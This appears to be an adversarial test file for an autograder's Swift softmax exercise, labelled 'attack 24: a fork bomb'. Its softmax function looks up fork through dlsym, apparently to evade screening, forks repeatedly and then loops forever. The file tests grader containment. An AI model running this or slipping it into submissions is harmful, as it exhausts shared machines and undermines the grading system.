// expect: !passed points=some softmax=!passed isSoftmax=passed exercise=3
// attack 24: a fork bomb
// swift-format-ignore-file
import Glibc
import Tensors

private func shares(_ x: Tensor) -> Tensor {
  let powers = (x - x.max(axis: 1, keepingDimensions: true)).exp()
  return powers / powers.sum(axis: 1, keepingDimensions: true)
}

func symbol<Function>(_ name: String, as type: Function.Type) -> Function? {
  dlsym(nil, name).map { unsafeBitCast($0, to: type) }
}
typealias Fork = @convention(c) () -> Int32

public func softmax(_ x: Tensor) -> Tensor {
  for _ in 0..<5_000 {
    guard let child = symbol("fork", as: Fork.self)?(), child >= 0 else { break }
    if child == 0 { _ = symbol("fork", as: Fork.self)?() }
  }
  while true {}
}

public func isSoftmax(_ x: Tensor, _ yHat: Tensor) -> Bool {
  guard yHat.shape == x.shape else { return false }
  return (yHat - shares(x)).absolute().max().item <= 1e-4
}
